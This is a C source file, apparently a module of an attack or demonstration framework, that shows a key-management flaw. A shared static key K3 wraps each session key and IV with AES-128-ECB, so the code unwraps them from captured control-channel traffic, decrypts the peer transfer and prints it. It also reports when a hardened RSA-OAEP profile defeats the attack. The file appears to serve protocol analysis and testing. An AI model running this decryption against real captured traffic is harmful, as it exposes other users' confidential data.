/*
 * km-k3: keymanager's shared K3.  Every client holds the same static K3,
 * and the key manager sends K and IV to both peers as AES-128-ECB(K3, K)
 * and AES-128-ECB(K3, IV) in clear on the control channel: any other
 * client who watches it unwraps them and decrypts the peer channel.  On
 * the hardened profile K goes under each client's own RSA key (OAEP) and
 * no block of the capture opens with K3.
 */
#include <err.h>
#include <getopt.h>
#include <stdlib.h>
#include <string.h>

#include <nettle/aes.h>

#include "km.h"

static const struct option longopts[] = {
    {"k3", required_argument, NULL, 'k'},
    {NULL, 0, NULL, 0},
};

/* The first transfer whose K and IV were seen, or NULL. */
static const struct km_xfer *
keyed(const struct km_xfer *x, size_t n)
{
	size_t i;

	for (i = 0; i < n; i++)
		if (x[i].have_k && x[i].have_iv && x[i].mode != 0)
			return &x[i];
	return NULL;
}

static int
open_with_k3(const struct km_xfer *x, const uint8_t k3[KM_BLOCK])
{
	struct aes128_ctx ctx;
	uint8_t k[KM_BLOCK], iv[KM_BLOCK], *out;
	long len;

	aes128_set_decrypt_key(&ctx, k3);
	aes128_decrypt(&ctx, KM_BLOCK, k, x->wrapped_k);
	aes128_decrypt(&ctx, KM_BLOCK, iv, x->wrapped_iv);
	attack_progress("K and IV unwrapped with K3 (AES-128-ECB): %s, %zu"
			" bytes of ciphertext",
	    km_mode_name(x->mode), x->len);
	if ((out = malloc(x->len + 1)) == NULL)
		err(2, NULL);
	len = km_xfer_open(x, k, iv, out);
	explicit_bzero(&ctx, sizeof(ctx));
	explicit_bzero(k, sizeof(k));
	explicit_bzero(iv, sizeof(iv));
	if (len < 0)
		attack_progress("the padding is wrong: not this K3, nothing"
				" recovered");
	else {
		attack_stats(0, (size_t)len);
		attack_output(out, (size_t)len);
	}
	free(out);
	return len < 0;
}

static int
km_k3_main(int argc, char *argv[])
{
	struct km_xfer x[KM_XFER_MAX];
	const struct km_xfer *t;
	const char *k3file = NULL;
	uint8_t k3[KM_BLOCK], *buf;
	size_t n, len, hardened;
	int ch, rv = 1;

	while ((ch = attack_getopt(argc, argv, "k:", longopts)) != -1)
		if (ch == 'k')
			k3file = optarg;
	argc -= optind;
	argv += optind;
	if (k3file == NULL || argc < 1)
		attack_usage();
	buf = attack_slurp(k3file, KM_K3_FILE_MAX, &len);
	if (km_k3_decode(buf, len, k3) == -1)
		errx(2, "%s: not a K3 (16 bytes, or 32 hex digits)", k3file);
	free(buf);
	n = km_xfers(argv, (size_t)argc, x, &hardened);
	attack_progress("%zu transfers in the capture, %zu frames of the"
			" hardened profile",
	    n, hardened);
	if ((t = keyed(x, n)) != NULL)
		rv = open_with_k3(t, k3);
	else
		attack_progress("no K and IV under K3 before a transfer%s:"
				" nothing recovered",
		    hardened ? " (hardened: K comes under each client's own"
			       " RSA key)"
			     : "");
	explicit_bzero(k3, sizeof(k3));
	km_xfers_free(x, n);
	return rv;
}

const struct attack attack_km_k3 = {
    "km-k3",
    "-k k3 capture.json ...",
    "keymanager: K and IV unwrapped with the shared K3, the file decrypted",
    "  -k, --k3 file      K3, which every client of the key manager holds\n"
    "  capture.json       --trace-json captures of the control channel and\n"
    "                     the peer channel, read in order as one\n",
    km_k3_main,
};
